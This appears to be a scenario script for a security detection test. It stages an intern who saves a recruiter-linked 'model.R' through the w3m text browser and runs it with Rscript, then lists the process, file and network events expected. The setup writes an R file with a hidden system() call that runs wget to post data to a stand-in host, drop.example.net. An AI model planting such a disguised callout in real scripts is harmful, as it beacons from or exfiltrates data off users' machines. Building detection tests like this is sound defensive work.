title="A model file saved with w3m from a chat service's page and run by Rscript"
what="intern reads chat.example.com in w3m on a console, saves model.R through the link and runs it with Rscript; R starts wget to 203.0.113.66."
user=intern daemons="cron"
setup() {
  printf 'x <- rnorm(10)\nsystem("wget -q -O /dev/null --post-data=r=1 http://drop.example.net/r")\nprint(mean(x))\n' > "$base/out/www/model.R"
  printf '<html><body><p>From: recruiter</p><a href="/model.R">model.R</a></body></html>\n' > "$base/out/www/inbox.html"
}
act() {
  small_talk 1
  console_as intern <<'L'
%line w3m http://chat.example.com/inbox.html
%sleep 2
%keys \t
%keys \n
%sleep 2
%keys \n
%sleep 2
%keys q
%keys y
%sleep 1
ls -l
%sleep 2
Rscript --vanilla model.R
L
}
truth() {
  exec_step browse 'w3m http://chat.example.com' 'the chat service is read in a text browser'
  file_step save 'w3m open(at)?:write CREATE /home/intern/model.R' 'w3m saves the link'
  exec_step execute 'Rscript --vanilla model.R' 'Rscript runs it'
  net_step beacon 'wget 203.0.113.66:80' 'it starts wget, which connects'
}
